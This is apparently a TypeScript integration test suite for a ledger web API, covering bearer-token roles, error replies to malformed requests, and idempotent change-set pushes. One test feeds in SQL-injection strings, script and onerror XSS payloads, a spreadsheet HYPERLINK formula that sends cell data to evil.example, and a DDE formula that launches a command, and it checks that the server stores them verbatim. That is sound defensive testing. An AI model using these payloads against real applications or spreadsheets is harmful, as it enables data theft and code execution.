/**
 * The real HTTP app (createApp) on an ephemeral port over a SQLite ledger,
 * with bearer tokens issued into the database's token table: who may do
 * what, what malformed requests get back, and that hostile-looking text is
 * stored and returned exactly as sent (parameters, never SQL; JSON, never HTML).
 */
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { Operation } from "../../shared/changeset.js";
import type { Role } from "../../shared/roles.js";
import { createApp } from "../../server/app.js";
import { silentLogger } from "../../server/http/logger.js";
import { createToken } from "../../server/http/tokens.js";
import { SqlLedgerStore } from "../../server/store/ledger-store.js";
import { migrate } from "../../server/store/migrate.js";
import { sql, text, type Database } from "../../server/store/sql.js";
import { openSqliteDatabase } from "../../server/store/sqlite-database.js";
import { sqlTokenStore } from "../../server/store/token-store.js";
import { aCustomerOp, anInvoiceOp, newChangeSetId } from "../support/change-sets.js";
import { testClock } from "../support/databases.js";
import { ledgerFingerprint } from "../support/ledger-state.js";

/** Small enough that a test can exceed it cheaply, large enough for every other request here. */
const BODY_LIMIT_BYTES = 16 * 1024;

let dir: string;
let db: Database;
let store: SqlLedgerStore;
let server: Server;
let base: string;
const tokens: Partial<Record<Role, string>> = {};

function tokenFor(role: Role): string {
  const token = tokens[role];
  if (token === undefined) throw new Error(`no ${role} token`);
  return token;
}

interface Reply {
  readonly status: number;
  readonly headers: Headers;
  readonly body: Record<string, unknown>;
}

async function call(
  path: string,
  init: { method?: string; role?: Role; body?: unknown; rawBody?: string } = {},
): Promise<Reply> {
  const headers: Record<string, string> = {};
  if (init.role !== undefined) headers.authorization = `Bearer ${tokenFor(init.role)}`;
  let body: string | undefined;
  if (init.rawBody !== undefined) body = init.rawBody;
  else if (init.body !== undefined) body = JSON.stringify(init.body);
  if (body !== undefined) headers["content-type"] = "application/json";
  const response = await fetch(`${base}${path}`, {
    method: init.method ?? (body === undefined ? "GET" : "POST"),
    headers,
    ...(body === undefined ? {} : { body }),
  });
  const textBody = await response.text();
  let parsed: Record<string, unknown>;
  try {
    parsed = JSON.parse(textBody) as Record<string, unknown>;
  } catch {
    throw new Error(`${path}: response ${response.status} is not JSON: ${textBody.slice(0, 300)}`);
  }
  return { status: response.status, headers: response.headers, body: parsed };
}

const pushBody = (operations: readonly Operation[], id = newChangeSetId("api")) => ({ id, operations });

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "openar-api-"));
  db = openSqliteDatabase(join(dir, "ledger.sqlite"));
  await migrate(db, () => testClock.now());
  store = await SqlLedgerStore.open(db, testClock);
  const tokenStore = sqlTokenStore(db, () => testClock.now());
  for (const role of ["viewer", "clerk", "controller", "admin"] as const) {
    const { token, record } = createToken({ user: `${role}.user`, role, clock: testClock });
    await tokenStore.insert(record);
    tokens[role] = token;
  }
  const app = createApp({
    store,
    tokens: tokenStore,
    clock: testClock,
    logger: silentLogger,
    allowedOrigins: ["https://localhost:3000"],
    bodyLimit: String(BODY_LIMIT_BYTES),
    rateLimit: { windowMs: 60_000, max: 10_000 },
    http: true,
  });
  server = createServer(app);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/v1`;
  // Every test below starts from a ledger with one customer.
  const seeded = await call("/changesets", {
    role: "clerk",
    body: pushBody([aCustomerOp({ id: "cus-1", name: "Plain Customer" })]),
  });
  expect(seeded.status).toBe(201);
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise<void>((resolve) => {
    server.close(() => {
      resolve();
    });
  });
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

afterEach(async () => {
  const report = await store.checkInvariants();
  expect(report.problems, "ledger invariants after the test").toEqual([]);
});

describe("authentication and roles", () => {
  it("answers 401 with a challenge when no token is sent, and writes nothing", async () => {
    const before = await ledgerFingerprint(db);
    const read = await call("/customers");
    expect(read.status).toBe(401);
    expect(read.body.error).toBe("unauthorized");
    expect(read.body.message).toMatch(/missing Authorization header/);
    expect(read.headers.get("www-authenticate")).toBe('Bearer realm="openar"');
    const write = await call("/changesets", { body: pushBody([anInvoiceOp({ id: "inv-anon", customerId: "cus-1" })]) });
    expect(write.status).toBe(401);
    expect(await ledgerFingerprint(db)).toEqual(before);
  });

  it("answers 401 to a token that was never issued", async () => {
    const response = await fetch(`${base}/customers`, { headers: { authorization: `Bearer oar_${"A".repeat(43)}` } });
    expect(response.status).toBe(401);
  });

  it("lets a viewer read but answers 403 when a viewer pushes a change set", async () => {
    const before = await ledgerFingerprint(db);
    expect((await call("/customers", { role: "viewer" })).status).toBe(200);
    const write = await call("/changesets", {
      role: "viewer",
      body: pushBody([anInvoiceOp({ id: "inv-viewer", customerId: "cus-1" })]),
    });
    expect(write.status).toBe(403);
    expect(write.body.error).toBe("forbidden");
    expect(write.body.message).toMatch(/viewer may not post/);
    expect(await ledgerFingerprint(db)).toEqual(before);
  });

  it("answers 403 when a clerk's change set closes a period, and writes none of it", async () => {
    const before = await ledgerFingerprint(db);
    const reply = await call("/changesets", {
      role: "clerk",
      body: pushBody([
        anInvoiceOp({ id: "inv-clerk-close", customerId: "cus-1" }),
        { op: "period.close", period: "2026-09", ref: "close-sep" },
      ]),
    });
    expect(reply.status).toBe(403);
    expect(reply.body.message).toMatch(/clerk may not closePeriod \(operation 1: period\.close\)/);
    expect(reply.body.operations).toEqual([{ index: 1, ref: "close-sep", op: "period.close", action: "closePeriod" }]);
    expect(await ledgerFingerprint(db)).toEqual(before);
    // A controller may.
    expect(
      (await call("/changesets", { role: "controller", body: pushBody([{ op: "period.close", period: "2026-09" }]) }))
        .status,
    ).toBe(201);
  });
});

describe("malformed requests", () => {
  it("answers 413 to a body over the limit, and writes nothing", async () => {
    const before = await ledgerFingerprint(db);
    const notes: Operation[] = Array.from({ length: 6 }, (_, i) => ({
      op: "note.create",
      id: `note-big-${i}`,
      customerId: "cus-1",
      kind: "note",
      body: "x".repeat(3900),
    }));
    const body = JSON.stringify(pushBody(notes));
    expect(body.length).toBeGreaterThan(BODY_LIMIT_BYTES);
    const reply = await call("/changesets", { role: "clerk", rawBody: body });
    expect(reply.status).toBe(413);
    expect(reply.body.error).toBe("payload_too_large");
    expect(reply.body.message).toMatch(new RegExp(`limit of ${BODY_LIMIT_BYTES} bytes`));
    expect(await ledgerFingerprint(db)).toEqual(before);
  });

  it("answers 400 with a message to malformed JSON", async () => {
    const reply = await call("/changesets", { role: "clerk", rawBody: '{"id": "cs-malformed-1", "operations": [' });
    expect(reply.status).toBe(400);
    expect(reply.body.error).toBe("malformed_json");
    expect(reply.body.message).toMatch(/^request body is not valid JSON: .+/);
    expect(typeof reply.body.requestId).toBe("string");
  });

  it("answers 422 naming an unknown operation", async () => {
    const before = await ledgerFingerprint(db);
    const reply = await call("/changesets", {
      role: "clerk",
      body: {
        id: newChangeSetId("unknown"),
        operations: [
          anInvoiceOp({ id: "inv-unknown-ok", customerId: "cus-1" }),
          { op: "customer.delete", ref: "row-2", id: "cus-1" },
        ],
      },
    });
    expect(reply.status).toBe(422);
    expect(reply.body.error).toBe("validation_failed");
    const errors = reply.body.errors as { index: number; ref: string | null; code: string; message: string }[];
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ index: 1, ref: "row-2", code: "unknown_operation" });
    expect(errors[0]?.message).toMatch(/unknown operation "customer\.delete"/);
    expect(await ledgerFingerprint(db)).toEqual(before);
  });

  it.each([
    ["/aging?asOf=2026-02-30", "asOf"],
    ["/aging?basis=foo", "basis"],
    ["/aging?buckets=60,30", "buckets"],
    ["/open-items?asOf=2026-02-30", "asOf"],
    ["/open-items?basis=foo", "basis"],
    ["/open-items?buckets=60,30", "buckets"],
    ["/changes?since=abc", "since"],
  ])("answers 400 to %s, naming the parameter", async (path, field) => {
    const reply = await call(path, { role: "viewer" });
    expect(reply.status).toBe(400);
    expect(reply.body.field).toBe(field);
    expect(reply.body.message).toMatch(new RegExp(`^query parameter ${field}: .+`));
  });
});

describe("change sets over HTTP", () => {
  it("stores and returns injection-shaped and unusual text verbatim", async () => {
    const hostile = {
      name: "'; DROP TABLE customers; --",
      number: '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
      collector: "Robert'); DELETE FROM documents;--",
      note: '<script>alert("x")</script> <img src=x onerror=alert(1)> @SUM(1+1) +cmd|" /C calc"!A0',
      unicode: 'Zoë Ørsted – 株式会社 🧾 \u202eRTL\u202c tab\tnew\nline \\ back "quote"',
    };
    const reply = await call("/changesets", {
      role: "clerk",
      body: pushBody([
        {
          ...aCustomerOp({ id: "cus-hostile", number: hostile.number, name: hostile.name }),
          collector: hostile.collector,
        },
        anInvoiceOp({
          id: "inv-hostile",
          customerId: "cus-hostile",
          number: hostile.unicode.slice(0, 60),
          amount: "12.34",
          documentDate: "2026-10-01",
        }),
        {
          op: "note.create",
          id: "note-hostile-1",
          customerId: "cus-hostile",
          documentId: "inv-hostile",
          kind: "note",
          body: `${hostile.note}\n${hostile.unicode}`,
        },
      ]),
    });
    expect(reply.status).toBe(201);

    // In the database exactly as sent, and the tables the strings "drop" are still there.
    const [customer] = await db.all(
      sql`SELECT name, number, collector FROM customers WHERE id = ${text("cus-hostile")}`,
    );
    expect(customer).toEqual({ name: hostile.name, number: hostile.number, collector: hostile.collector });
    const [note] = await db.all(sql`SELECT body FROM notes WHERE id = ${text("note-hostile-1")}`);
    expect(note?.body).toBe(`${hostile.note}\n${hostile.unicode}`);
    const [documents] = await db.all(sql`SELECT COUNT(*) AS n_count FROM documents`);
    expect(documents?.n_count).toBeGreaterThan(0);

    // Back out through the API, as JSON (never HTML), unchanged.
    const found = await fetch(`${base}/customers?search=${encodeURIComponent("DROP TABLE")}`, {
      headers: { authorization: `Bearer ${tokenFor("viewer")}` },
    });
    expect(found.headers.get("content-type")).toMatch(/^application\/json/);
    expect(found.headers.get("x-content-type-options")).toBe("nosniff");
    const customers = (
      (await found.json()) as { customers: { id: string; name: string; number: string; collector: string | null }[] }
    ).customers;
    expect(customers.map((c) => [c.id, c.name, c.number, c.collector])).toEqual([
      ["cus-hostile", hostile.name, hostile.number, hostile.collector],
    ]);

    const items = await call(`/open-items?customerId=cus-hostile&asOf=2026-11-23`, { role: "viewer" });
    expect(items.status).toBe(200);
    const [item] = items.body.items as {
      number: string;
      customerName: string;
      collector: string | null;
      lastNote: { body: string } | null;
    }[];
    expect(item?.number).toBe(hostile.unicode.slice(0, 60));
    expect(item?.customerName).toBe(hostile.name);
    expect(item?.lastNote?.body).toBe(`${hostile.note}\n${hostile.unicode}`);
  });

  it("answers a dry run with 200 and writes nothing", async () => {
    const before = await ledgerFingerprint(db);
    const body = pushBody([anInvoiceOp({ id: "inv-dry", customerId: "cus-1", amount: "55.00" })]);
    const reply = await call("/changesets?dryRun=true", { role: "clerk", body });
    expect(reply.status).toBe(200);
    expect(reply.body).toMatchObject({ status: "validated", dryRun: true, operations: 1 });
    expect(await ledgerFingerprint(db)).toEqual(before);
  });

  it("answers a committed push with 201 and its replay with 200, replayed: true, and the same result", async () => {
    const body = pushBody([anInvoiceOp({ id: "inv-replay", customerId: "cus-1", amount: "75.00" })]);
    const first = await call("/changesets", { role: "clerk", body });
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({ status: "committed", replayed: false, id: body.id });
    const after = await ledgerFingerprint(db);
    const again = await call("/changesets", { role: "clerk", body });
    expect(again.status).toBe(200);
    expect(again.body).toEqual({ ...first.body, replayed: true });
    expect(await ledgerFingerprint(db)).toEqual(after);

    const changed = await call("/changesets", {
      role: "clerk",
      body: { ...body, operations: [anInvoiceOp({ id: "inv-replay", customerId: "cus-1", amount: "76.00" })] },
    });
    expect(changed.status).toBe(409);
    expect(changed.body).toMatchObject({
      error: "conflict",
      reason: "idempotency_key_reused",
      differences: ['operations[0].amount: "75.00" ≠ "76.00"'],
    });
    expect(await ledgerFingerprint(db)).toEqual(after);
  });

  it("tells whether a change set landed: GET /changesets/{id} answers its stored result, or 404", async () => {
    const body = pushBody([anInvoiceOp({ id: "inv-status", customerId: "cus-1", amount: "12.00" })]);
    const missing = await call(`/changesets/${body.id}`, { role: "viewer" });
    expect(missing.status).toBe(404);
    expect(missing.body).toMatchObject({ error: "not_found" });
    const pushed = await call("/changesets", { role: "clerk", body });
    expect(pushed.status).toBe(201);
    const found = await call(`/changesets/${body.id}`, { role: "viewer" });
    expect(found.status).toBe(200);
    const { replayed: _replayed, ...stored } = pushed.body;
    expect(found.body).toEqual(stored);
  });
});
